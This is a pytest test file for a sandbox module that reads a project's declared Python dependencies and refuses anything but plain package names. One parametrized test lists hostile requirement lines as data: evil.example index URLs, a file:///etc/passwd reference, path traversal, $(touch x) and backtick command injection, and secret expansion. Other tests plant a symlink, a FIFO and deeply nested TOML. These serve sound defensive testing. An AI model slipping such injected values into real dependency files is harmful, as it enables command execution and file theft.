"""What a project declares is read as foreign text."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from phoenix.sandbox.declared import REQUIREMENTS, read_declared

PYPROJECT = """
[project]
name = "My.Shop"
dependencies = ["Requests >= 2 ; python_version > '3'", "zope.interface[test,docs]"]
[project.optional-dependencies]
test = ["pytest>=8", "my-shop[extra]"]
extra = ["attrs"]
docs = ["mkdocs"]
[dependency-groups]
dev = [{include-group = "lint"}, "hypothesis"]
lint = ["ruff"]
release = ["twine"]
"""


def test_runtime_and_test_requirements_are_read(tmp_path: Path) -> None:
    """Dependencies, test extras and groups count, with what they include; other extras do not."""
    (tmp_path / "pyproject.toml").write_text(PYPROJECT)
    (tmp_path / "requirements.txt").write_text("# a note\nflask==3.0 \\\n  --hash=sha256:00\n\nclick # why\n")
    (tmp_path / "setup.cfg").write_text(
        "[options]\ninstall_requires =\n    six\n[options.extras_require]\ntests = mock\ndocs = sphinx\n"
    )
    assert read_declared(tmp_path).requirements == (
        "attrs",
        "click",
        "flask==3.0",
        "hypothesis",
        "mock",
        "pytest>=8",
        'requests>=2; python_version > "3"',
        "ruff",
        "six",
        "zope-interface[docs,test]",
    )


def test_what_the_code_runs_on_is_told_from_what_its_tests_need(tmp_path: Path) -> None:
    """Dependencies and requirements.txt are of run time; extras, groups and other files are not."""
    (tmp_path / "pyproject.toml").write_text(PYPROJECT)
    (tmp_path / "requirements.txt").write_text("flask\n")
    (tmp_path / "requirements-dev.txt").write_text("flask\nblack\n")
    (tmp_path / "setup.cfg").write_text("[options]\ninstall_requires =\n    six\n")
    assert read_declared(tmp_path).runtime == (
        "flask",
        'requests>=2; python_version > "3"',
        "six",
        "zope-interface[docs,test]",
    )


@pytest.mark.parametrize(
    "line",
    [
        "-r other.txt",
        "-e .",
        "--index-url http://evil.example/simple",
        "--extra-index-url=http://evil.example",
        " -f http://evil.example",
        "pkg @ http://evil.example/pkg.whl",
        "pkg @ file:///etc/passwd",
        "git+https://evil.example/x.git",
        "http://evil.example/pkg.whl",
        "./local",
        "../up",
        "/etc",
        "pkg.whl/../x",
        "pkg===../../x",
        "pkg===${SECRET}",
        "pkg>=1 --install-option=x",
        "pkg --config-settings=x",
        "$(touch x)",
        "pkg; os_name == `id`",
        "\u202epkg",
    ],
)
def test_options_addresses_and_paths_are_refused_with_a_reason(tmp_path: Path, line: str) -> None:
    """Nothing but a name with versions reaches pip."""
    (tmp_path / "requirements.txt").write_text(f"{line}\ngood\n")
    declared = read_declared(tmp_path)
    assert declared.requirements == ("good",)
    assert len(declared.ignored) == 1
    assert declared.ignored[0].startswith("requirements.txt: ")


def test_links_and_devices_are_not_read(tmp_path: Path) -> None:
    """A planted link to a file of the host says nothing, nor does a pipe hang the reader."""
    outside = tmp_path / "outside.txt"
    outside.write_text("stolen\n")
    project = tmp_path / "project"
    project.mkdir()
    (project / "requirements.txt").symlink_to(outside)
    os.mkfifo(project / "requirements-dev.txt")
    (project / "pyproject.toml").mkdir()
    assert read_declared(project).requirements == ()


@pytest.mark.parametrize(
    "text",
    [
        "not toml [",
        "a = " + "[" * 5000 + "]" * 5000,
        "project = 3",
        "[project]\nname = 3\ndependencies = 'x'\noptional-dependencies = []",
        "[project]\ndependencies = [1, {}, [], '']",
        "[dependency-groups]\ndev = [{include-group = 'dev'}, {include-group = 3}]",
        "n = " + "9" * 5000,
        "[project]\nname = 'a'\noptional-dependencies = {dev = ['a[dev]']}",
        "\ufeff[project]\n",
    ],
)
def test_malformed_declarations_do_not_break_the_reader(tmp_path: Path, text: str) -> None:
    """Whatever stands there, the reader returns."""
    (tmp_path / "pyproject.toml").write_text(text)
    assert read_declared(tmp_path).requirements == ()


def test_requirements_are_capped(tmp_path: Path) -> None:
    """More requirements than anyone needs are left out, and it is said."""
    (tmp_path / "requirements.txt").write_text("\n".join(f"p{n}" for n in range(REQUIREMENTS + 5)))
    declared = read_declared(tmp_path)
    assert len(declared.requirements) == REQUIREMENTS
    assert "5 requirements" in declared.ignored[-1]
